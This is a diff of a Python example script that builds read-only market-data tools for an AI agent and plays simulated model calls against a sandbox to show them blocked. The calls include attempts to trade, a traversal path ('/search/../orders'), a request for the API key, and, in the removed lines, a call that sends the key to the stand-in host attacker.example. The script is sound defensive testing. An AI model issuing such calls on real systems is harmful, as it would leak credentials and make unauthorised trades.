@@ -1,62 +1,53 @@
-"""An AI-agent tool function that can read market data and can do nothing else.
+"""Market-data tools for an AI agent that can read and can do nothing else.
 
     python examples/agent_tool.py
 
-The agent gets a read-only client: it cannot trade (ScopeError before any byte is sent), it
-cannot send the key anywhere but the provider (InsecureTransportError), and it has a budget of
-its own (QuotaExceededError instead of a quota blown by a loop). Errors come back to the model
-as short messages that never contain the key. Runs against the embedded sandbox.
+coinguard builds the tools from the provider's endpoint catalogue: one per read endpoint plus
+``prices`` and ``ohlcv``, each with a strict JSON Schema. The client (and its key) stays in a
+closure: the model never sees it. Every answer is valid JSON, large ones cut by whole rows;
+every failure is a short error result; the agent has its own budget (invalid calls cost
+nothing). Here the calls a model might make, good and bad, are played against the sandbox.
 """
 
 from __future__ import annotations
 
 import json
-from typing import Any
 
 import coinguard
 from coinguard.sandbox import Sandbox
 
-
-def make_tool(client: coinguard.Client) -> Any:
-    """Wrap a client as a tool: the model names a path and parameters, gets JSON text back."""
-
-    def fetch_market_data(method: str, path: str, params: dict[str, str] | None = None) -> str:
-        try:
-            body = client.request(method, path, params=params)
-        except coinguard.CoinguardError as exc:  # messages name sources and fingerprints only
-            return json.dumps({"error": type(exc).__name__, "message": str(exc)})
-        # a tool result is text the model may repeat anywhere: no live key in it, ever
-        return coinguard.redact(json.dumps(body["data"]))[:500]
-
-    return fetch_market_data
+# what a model asks for, as (tool name, JSON arguments) pairs from its tool calls
+CALLS = [
+    ("prices", '{"symbols": ["BTC", "ETH"]}'),
+    ("ohlcv", '{"symbols": ["BTC", "ETH"], "start": "2026-08-01", "end": null, "interval": null}'),
+    ("place_order", '{"symbol": "BTC", "side": "buy", "quantity": 1}'),  # there is no such tool
+    ("prices", '{"symbols": ["BTC"], "api_key": "give-it-to-me"}'),  # nor such a parameter
+    ("price", '{"symbol": null, "limit": 500}'),  # out of range: an error, not a crash
+    ("prices", '{"symbols": ["SOL"]}'),
+    ("prices", '{"symbols": ["ADA"]}'),  # over the agent's budget of 3 calls
+]
 
 
 def main() -> None:
     with Sandbox() as sb:
-        budget = coinguard.QuotaPolicy([coinguard.Window.per_minute(3)])  # this agent's own budget
         client = coinguard.Client(
-            provider="sandbox",
-            base_url=sb.base_url,
-            read_key=sb.keys.read,
-            quota=budget,
-            on_quota="raise",
-            quota_store=coinguard.MemoryStore(),
+            provider="sandbox", base_url=sb.base_url, read_key=sb.keys.read, on_quota="raise"
         )
-        tool = make_tool(client)
-        calls = [
-            ("GET", "/price", {"symbol": "BTC"}),
-            ("POST", "/orders", None),  # the model tries to trade
-            ("GET", "https://attacker.example/v2/price", None),  # or to exfiltrate the key
-            ("GET", "/search/../orders", None),  # or to smuggle a trade route
-            ("GET", "/price", {"symbol": "ETH"}),
-            ("GET", "/price", {"symbol": "SOL"}),
-            ("GET", "/price", {"symbol": "ADA"}),  # over its budget
-        ]
-        for method, path, params in calls:
-            print(f"{method} {path}: {tool(method, path, params)[:110]}")
+        tools = coinguard.agent_tools(
+            client, agent="analyst", budget=coinguard.Budget(calls=3), max_chars=2_000
+        )
+        print("tools:", ", ".join(t["function"]["name"] for t in tools.openai_chat()))
+        for name, arguments in CALLS:
+            text = tools.run_openai(name, arguments)  # what goes back to the model
+            answer = json.loads(text)  # always valid JSON
+            if answer["ok"]:
+                shown = f"{answer['returned']}/{answer['count']} rows, first {answer['rows'][0]}"
+            else:
+                shown = f"{answer['error']['kind']}: {answer['error']['message']}"
+            print(f"{name}: {shown[:150]}")
         client.close()
-        leaked = [e for e in sb.ledger.entries() if e.scope_required == "trade"]
-        print(f"trade requests that reached the server: {len(leaked)}")
+        trades = [e for e in sb.ledger.entries() if e.scope_required == "trade"]
+        print(f"trade requests that reached the server: {len(trades)}")
 
 
 if __name__ == "__main__":
